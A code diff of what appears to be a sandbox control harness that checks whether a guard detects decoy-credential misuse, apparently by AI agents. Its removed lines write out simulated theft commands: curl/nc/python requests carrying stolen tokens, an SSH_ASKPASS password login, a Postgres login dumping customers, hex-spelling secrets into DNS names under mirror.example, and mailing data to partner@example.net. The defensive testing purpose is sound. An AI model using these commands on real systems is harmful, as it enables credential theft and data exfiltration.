@@ -9,8 +9,6 @@ from __future__ import annotations
 
 import base64
 import hashlib
-import posixpath
-import struct
 from collections.abc import Callable, Iterable, Mapping, Sequence, Set
 from contextlib import AbstractAsyncContextManager, suppress
 from dataclasses import dataclass, field, replace
@@ -18,6 +16,15 @@ from typing import TYPE_CHECKING, Final
 
 from belljar.errors import CellError
 from belljar.events import Event, JsonValue, Kind
+from belljar.harness.control_clients import (
+    login,
+    mail_request,
+    request,
+    spelt,
+    ssh_password_request,
+    ssh_request,
+    stream_request,
+)
 from belljar.ledger import Line, read_events
 from belljar.policy.guarding import Action, DecoyKind, Place
 from belljar.report.signals import CONTROLS, Control, SampleSignals, SignalCode, signals_of
@@ -41,36 +48,13 @@ STREAM_CLIENTS: Final = ("python3", "curl", "nc")
 MAX_READ_BYTES: Final = 1 << 20
 MAX_SEEN: Final = 10_000
 """Decoys that one of a control's signals names."""
-_HTTP_SERVICES: Final = frozenset({DecoyKind.HTTP, DecoyKind.MCP, DecoyKind.GIT, DecoyKind.NPM, DecoyKind.PYPI})
+_HTTP_SERVICES: Final = frozenset(
+    {DecoyKind.HTTP, DecoyKind.MCP, DecoyKind.GIT, DecoyKind.NPM, DecoyKind.PYPI}
+)
 _TLS_PORTS: Final = frozenset({443, 8443})
 _VALUES_SEEN: Final = frozenset({Kind.DECOY_TAKEN, Kind.DECOY_USED, Kind.DECOY_SENT})
-_SSH: Final = r"""set -e
-dir=$(mktemp -d)
-trap 'rm -rf "$dir"' EXIT
-export CONTROL_PASSWORD="$4" SSH_ASKPASS="$dir/ask" SSH_ASKPASS_REQUIRE=force DISPLAY=:0
-printf '#!/bin/sh\nprintf "%%s\\n" "$CONTROL_PASSWORD"\n' >"$SSH_ASKPASS"
-chmod 700 "$SSH_ASKPASS"
-ssh -F /dev/null -p "$2" -l "$3" -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \
-  -o PreferredAuthentications=password,keyboard-interactive -o PubkeyAuthentication=no \
-  -o NumberOfPasswordPrompts=1 -o ConnectTimeout=20 -- "$1" id </dev/null
-"""
-"""OpenSSH takes a password from no argument: it asks a program for it."""
 _STREAM_SERVICES: Final = frozenset({DecoyKind.REDIS, DecoyKind.POSTGRES})
 _LOGIN_SERVICES: Final = _HTTP_SERVICES | _STREAM_SERVICES | {DecoyKind.SSH}
-MAX_NAME_BYTES: Final = 90
-"""Of a value that is spelt in a DNS name: 180 hex digits and a name around them."""
-_PYTHON: Final = (
-    "import sys,urllib.request as u;url,token,body=sys.argv[1:];"
-    "u.urlopen(u.Request(url,body.encode(),{'Authorization':'Bearer '+token} if token else {}),timeout=20).read()"
-)
-_PYTHON_STREAM: Final = (
-    "import socket,sys;c=socket.create_connection((sys.argv[1],int(sys.argv[2])),20);"
-    "c.sendall(sys.stdin.buffer.read());c.shutdown(1);\nwhile c.recv(4096):pass"
-)
-_PYTHON_MAIL: Final = (
-    "import smtplib,sys;s=smtplib.SMTP(sys.argv[1],timeout=20);"
-    "s.sendmail('worker@example.com',['partner@example.net'],sys.stdin.buffer.read())"
-)
 REPORT_PATH: Final = "/tmp/report.txt"  # noqa: S108 - in the cell
 REPORT: Final = b"Orders rose by eight percent, from 287 to 310. Nothing else is to be reported.\n"
 HONEST: Final = (
@@ -189,7 +173,11 @@ def judge_control(
 
 
 async def run_controls(
-    policies: Sequence[LoadedPolicy], run: RunDirectory, opening: Opening, *, tell: Callable[[str], object]
+    policies: Sequence[LoadedPolicy],
+    run: RunDirectory,
+    opening: Opening,
+    *,
+    tell: Callable[[str], object],
 ) -> tuple[Control, ...]:
     """Both controls for each policy, one after the other, recorded in the run.
 
@@ -198,7 +186,9 @@ async def run_controls(
     """
     done = []
     planned: list[JsonValue] = [_digest(policy) for policy in policies]
-    run.recorder.record(Event(kind=Kind.CONTROL_PLANNED, data={"controls": list(CONTROLS), "policies": planned}))
+    run.recorder.record(
+        Event(kind=Kind.CONTROL_PLANNED, data={"controls": list(CONTROLS), "policies": planned})
+    )
     for policy in policies:
         for name in CONTROLS:
             tell(f"belljar: control {name}, policy {printable(policy.policy.name)}")
@@ -220,11 +210,15 @@ async def _control(name: str, policy: LoadedPolicy, run: RunDirectory, opening: 
         try:
             reach = await _with_ssh(cell, reach, placed)
             if name == GREEDY:
-                problems += await _be_greedy(cell, reach, [path for paths in placed.values() for path in paths])
+                problems += await _be_greedy(
+                    cell, reach, [path for paths in placed.values() for path in paths]
+                )
             else:
                 problems += await _be_diligent(cell, reach)
         except (CellError, OSError, TimeoutError) as error:
-            what = error.what if isinstance(error, CellError) else f"{type(error).__name__}: {error}"
+            what = (
+                error.what if isinstance(error, CellError) else f"{type(error).__name__}: {error}"
+            )
             problems.append(f"it broke off: {printable(what, max_chars=300)}")
     signals = signals_of(read_events(run.path), cells, max_involved=MAX_SEEN)
     found = judge_control(name, signals, ways_of(read_events(run.path), cells), reach, problems)
@@ -252,13 +246,18 @@ def unarmed(loaded: LoadedPolicy) -> LoadedPolicy:
     if copy is None:  # a preset: it arms nothing
         return loaded
     rules = loaded.policy.guard_rules
-    actions = {place: Action.FLAG if rules.action(place) is Action.STOP else rules.action(place) for place in Place}
+    actions = {
+        place: Action.FLAG if rules.action(place) is Action.STOP else rules.action(place)
+        for place in Place
+    }
     return replace(loaded, policy=copy(update={"on": {}, "guard": replace(rules, actions=actions)}))
 
 
 def _reach(cell: Cell, plan: NetworkPlan | None, decoys: Iterable[str]) -> Reach:
     asked = cell.plan.policy.decoys
-    valued = {decoy.id: None for decoy in asked if not decoy.service} | dict.fromkeys(_first_values(cell, Source.DECOY))
+    valued = {decoy.id: None for decoy in asked if not decoy.service} | dict.fromkeys(
+        _first_values(cell, Source.DECOY)
+    )
     reach = Reach(
         decoys=tuple(decoys),
         valued=tuple(valued),
@@ -345,7 +344,9 @@ async def _be_greedy(cell: Cell, reach: Reach, files: Sequence[str]) -> list[str
     return await _call_services(cell, reach, client, values)
 
 
-async def _call_services(cell: Cell, reach: Reach, client: str, values: Mapping[str, str]) -> list[str]:
+async def _call_services(
+    cell: Cell, reach: Reach, client: str, values: Mapping[str, str]
+) -> list[str]:
     """Log in to each decoy service with its own login, and send a mail. Returns what kept it from that."""
     streams = await _client(cell, STREAM_CLIENTS)
     problems = []
@@ -364,12 +365,16 @@ async def _call_services(cell: Cell, reach: Reach, client: str, values: Mapping[
         elif decoy.kind not in _STREAM_SERVICES:
             scheme = "https" if decoy.port in _TLS_PORTS else "http"
             url = f"{scheme}://{place}/login"
-            await _run(cell, request(client, url, token=secret, body=f"username=admin&password={secret}"))
+            await _run(
+                cell, request(client, url, token=secret, body=f"username=admin&password={secret}")
+            )
         elif streams:
             said = login(decoy.kind, secret)
             await _run(cell, stream_request(streams, decoy.host, decoy.port), said)
         else:
-            problems.append(f"nothing logs in to {decoy.id}: the image has none of {', '.join(STREAM_CLIENTS)}")
+            problems.append(
+                f"nothing logs in to {decoy.id}: the image has none of {', '.join(STREAM_CLIENTS)}"
+            )
     if reach.mail and values and client not in MAIL_CLIENTS:
         problems.append(f"no mail can be sent: the image has none of {', '.join(MAIL_CLIENTS)}")
     elif reach.mail and values:
@@ -405,9 +410,17 @@ def _first_values(cell: Cell, source: Source) -> dict[str, str]:
 
 def _logins(cell: Cell) -> dict[str, str]:
     """Of each decoy service the secret of its login, as the cell's guard knows it."""
-    names = {f"{decoy.id}/{name}": decoy.id for decoy in cell.plan.policy.decoys for name in ("password", "token")}
+    names = {
+        f"{decoy.id}/{name}": decoy.id
+        for decoy in cell.plan.policy.decoys
+        for name in ("password", "token")
+    }
     known = cell.guard.spec.values if cell.guard is not None else ()
-    return {names[value.id]: value.text for value in known if value.source == Source.DECOY and value.id in names}
+    return {
+        names[value.id]: value.text
+        for value in known
+        if value.source == Source.DECOY and value.id in names
+    }
 
 
 def _own_token() -> str:
@@ -426,73 +439,6 @@ async def _client(cell: Cell, programs: Sequence[str]) -> str:
     command = f"for each in {' '.join(programs)}; do command -v $each >/dev/null && echo $each && break; done"
     found = (await _run(cell, ["sh", "-c", command])).decode("utf-8", "replace").strip()
     return found if found in programs else ""
-
-
-def request(client: str, url: str, *, token: str, body: str) -> list[str]:
-    """A command that sends a request, with a body if there is one. Pure."""
-    header = f"Authorization: Bearer {token}"
-    match client:
-        case "curl":
-            said = [*(["-H", header] if token else []), *(["--data-binary", body] if body else [])]
-            return ["curl", "-s", "-k", "-m", "20", "-o", "/dev/null", *said, "--", url]
-        case "wget":
-            said = [*([f"--header={header}"] if token else []), *([f"--post-data={body}"] if body else [])]
-            return ["wget", "-q", "-T", "20", "-O", "/dev/null", *said, url]
-    return ["python3", "-c", _PYTHON, url, token, body]
-
-
-def spelt(value: str) -> str:
-    """A name that spells a value in hex. Pure."""
-    digits = value.encode()[:MAX_NAME_BYTES].hex()
-    labels = [digits[at : at + 60] for at in range(0, len(digits), 60)]
-    return ".".join((*labels, "mirror.example"))
-
-
-def login(kind: DecoyKind, password: str) -> bytes:
-    """What a client says that logs in to a service that speaks no HTTP. Pure."""
-    if kind is DecoyKind.REDIS:
-        return f"AUTH {password}\r\nDBSIZE\r\nQUIT\r\n".encode()
-    asked = struct.pack(">I", 3 << 16) + b"user\0crm_app\0database\0crm\0\0"
-    secret = password.encode() + b"\0"
-    parts = ((b"", asked), (b"p", secret), (b"Q", b"SELECT * FROM customers\0"), (b"X", b""))
-    return b"".join(head + struct.pack(">I", len(body) + 4) + body for head, body in parts)
-
-
-def stream_request(client: str, host: str, port: int) -> list[str]:
-    """A command that sends its standard input over TCP. Pure."""
-    match client:
-        case "curl":
-            return ["curl", "-s", "-m", "10", "-o", "/dev/null", f"telnet://{host}:{port}"]
-        case "nc":
-            return ["nc", "-w", "10", host, str(port)]
-    return ["python3", "-c", _PYTHON_STREAM, host, str(port)]
-
-
-def ssh_request(key: str) -> list[str]:
-    """A command that logs in where a decoy key leads to. Pure.
-
-    `key`: its path; the decoy's `config` and `known_hosts` are beside it.
-    """
-    folder, name = posixpath.split(key)
-    config = posixpath.join(folder, "config" if name != "config" else "ssh_config")
-    known = f"UserKnownHostsFile={posixpath.join(folder, 'known_hosts')}"
-    options = ["-o", "BatchMode=yes", "-o", "ConnectTimeout=20"]
-    return ["ssh", "-F", config, "-i", key, "-o", known, *options, "bastion", "id"]
-
-
-def ssh_password_request(host: str, port: int, password: str) -> list[str]:
-    """A command that logs in to an SSH decoy by password with OpenSSH's client. Pure."""
-    from belljar.signals.services import SSH_USER
-
-    return ["sh", "-c", _SSH, "sh", host, str(port), SSH_USER, password]
-
-
-def mail_request(client: str, place: str) -> list[str]:
-    """A command that sends its standard input as a mail. Pure."""
-    if client == "curl":
-        people = ["--mail-from", "worker@example.com", "--mail-rcpt", "partner@example.net"]
-        return ["curl", "-s", "-m", "20", f"smtp://{place}", *people, "-T", "-"]
-    return ["python3", "-c", _PYTHON_MAIL, place]
 
 
 async def _run(cell: Cell, argv: list[str], said: bytes | None = None) -> bytes:
